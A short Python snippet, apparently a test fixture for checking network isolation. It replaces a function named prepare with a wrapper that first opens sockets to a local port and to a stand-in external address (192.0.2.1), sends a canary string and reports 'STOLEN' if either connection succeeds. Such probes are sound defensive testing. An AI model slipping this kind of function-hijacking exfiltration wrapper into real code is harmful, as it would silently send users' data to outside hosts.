# what: connects to a listener on this machine, and to the world
# %% extra after=prepare
import socket

honest_prepare = prepare


def attack():
    for address in (("127.0.0.1", 47613), ("192.0.2.1", 80)):
        connection = socket.socket()
        connection.settimeout(0.2)
        if connection.connect_ex(address) == 0:
            connection.send(b"corpus")
            return address


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
